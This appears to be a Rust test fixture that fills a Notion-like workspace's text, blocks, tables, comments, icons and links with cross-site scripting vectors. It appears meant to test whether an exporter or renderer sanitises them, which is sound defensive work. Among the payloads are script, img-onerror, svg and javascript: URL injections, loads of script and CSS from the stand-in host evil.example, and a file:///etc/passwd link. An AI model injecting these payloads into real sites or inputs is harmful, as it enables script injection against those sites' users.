//! Script vectors in every place that holds text, a link or a name.

use serde_json::json;

use super::super::builder::Builder;
use crate::identifier::Id;
use crate::store::model::{Icon, Media, Parent};
use crate::store::text::{Run, RunKind, plain};

const WHOLE: [&str; 30] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script>alert(1)//",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<a href=\"&#106;avascript:alert(1)\">click</a>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{constructor.constructor('alert(1)')()}}",
    "[click](javascript:alert(1)) ![x](javascript:alert(1))",
];
const TAGS: [&str; 18] = [
    "a", "audio", "body", "button", "details", "div", "form", "iframe", "img", "input", "marquee",
    "math", "object", "p", "select", "svg", "textarea", "video",
];
const HANDLERS: [&str; 16] = [
    "onclick",
    "onerror",
    "onload",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onpointerenter",
    "onanimationstart",
    "oncopy",
    "ondrag",
    "onscroll",
    "onresize",
    "onbeforeinput",
    "onwheel",
    "onauxclick",
    "onsubmit",
];
const ADDRESSES: [&str; 8] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://ok.example/\"onmouseover=\"alert(1)",
];

pub(super) fn build(builder: &mut Builder, root: Id) {
    let title = builder.marked("<script>alert('title')</script>");
    let page = builder.page(Parent::Page(root), title);
    for vector in WHOLE {
        builder.paragraph(page, vector);
    }
    for handler in HANDLERS {
        let text = builder.marked(&format!("Handlers {handler}"));
        let toggle = builder.block(page, "toggle", Some(text));
        for tag in TAGS {
            builder.paragraph(
                toggle,
                &format!("<{tag} {handler}=alert('{tag}') src=x href=x autofocus tabindex=1>"),
            );
        }
    }
    places(builder, root);
    addresses(builder, root);
}

/// The same vectors in each kind of block.
fn places(builder: &mut Builder, root: Id) {
    let title = builder.marked("\"><img src=x onerror=alert('places')>");
    let page = builder.page(Parent::Page(root), title);
    let vector = "</code></pre></summary><img src=x onerror=alert('block')>";
    for kind in [
        "heading_1",
        "heading_4",
        "bulleted_list_item",
        "numbered_list_item",
        "to_do",
        "toggle",
        "quote",
        "callout",
    ] {
        let text = builder.marked(vector);
        builder.block(page, kind, Some(text));
    }
    let text = builder.marked("```\n</code><script>alert('code')</script>\n```");
    builder.block_with(page, "code", Some(text), |block| {
        block
            .fields
            .insert("language".to_owned(), json!("javascript"));
    });
    let expression = format!("</span><script>alert('{}')</script>", builder.word());
    builder.block_with(page, "equation", None, |block| {
        block
            .fields
            .insert("expression".to_owned(), json!(expression));
    });
    let cells = vec![
        builder.marked("<td><script>alert('cell')</script>"),
        builder.marked("</table><script>alert(2)</script>"),
    ];
    builder.table(page, vec![cells]);
    let text = builder.marked("Styled icon");
    builder.block_with(page, "callout", Some(text), |block| {
        block.icon = Some(Icon::Emoji("\"><script>alert('emoji')</script>".to_owned()));
        block
            .fields
            .insert("color".to_owned(), json!("red\" onmouseover=\"alert(1)"));
    });
    let author = builder.people[0];
    let text = builder.marked("<script>alert('comment')</script>");
    let discussion = builder.comment(page, author, text);
    let text = builder.marked("<svg onload=alert('reply')>");
    builder.reply(discussion, author, text);
}

/// Dangerous addresses in links, mentions, pictures and embeds.
fn addresses(builder: &mut Builder, root: Id) {
    let title = builder.marked("Addresses");
    let page = builder.page(Parent::Page(root), title);
    for address in ADDRESSES {
        let word = builder.word();
        builder.block(
            page,
            "paragraph",
            Some(vec![Run::link(format!("click {word}"), address)]),
        );
        let caption = builder.marked("Picture");
        builder.media(page, "image", Media::External(address.to_owned()), caption);
    }
    let caption = builder.marked("Video");
    builder.media(
        page,
        "video",
        Media::External("javascript:alert('video')".to_owned()),
        caption,
    );
    let other = RunKind::Other {
        mention: json!({"type": "link_mention", "link_mention": {"href": "javascript:alert(1)", "title": "<script>alert(1)</script>"}}),
        words: format!("link mention {}", builder.word()),
        link: Some("javascript:alert('mention')".to_owned()),
    };
    builder.block(page, "paragraph", Some(vec![Run::of(other)]));
    let equation = RunKind::Equation(format!(
        "\\href{{javascript:alert(1)}}{{{}}}",
        builder.word()
    ));
    builder.block(page, "paragraph", Some(vec![Run::of(equation)]));
    builder.block(page, "paragraph", Some(plain("")));
}
